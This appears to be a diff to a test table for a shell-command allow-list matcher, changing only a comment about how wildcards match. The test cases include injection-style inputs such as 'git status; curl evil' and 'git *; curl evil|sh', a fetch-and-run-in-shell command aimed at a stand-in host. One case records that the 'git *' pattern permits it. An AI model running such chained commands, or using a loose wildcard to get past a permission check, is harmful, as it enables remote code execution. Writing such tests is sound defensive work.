@@ -65,7 +65,7 @@ behaves("commands", {
     [["git *"], "git  status", true],
     [["git *"], "env git", false],
     [["git status"], "git status; curl evil", false],
-    [["git *"], "git *; curl evil|sh", true], // a wildcard covers what follows it, operators too
+    [["git *"], "git *; curl evil|sh", true], // a wildcard matches any characters, operators too
     [["npm run build", "npm run test"], "npm run *", false],
     [["rm"], "/bin/rm", false],
     [["rm"], "RM", false],
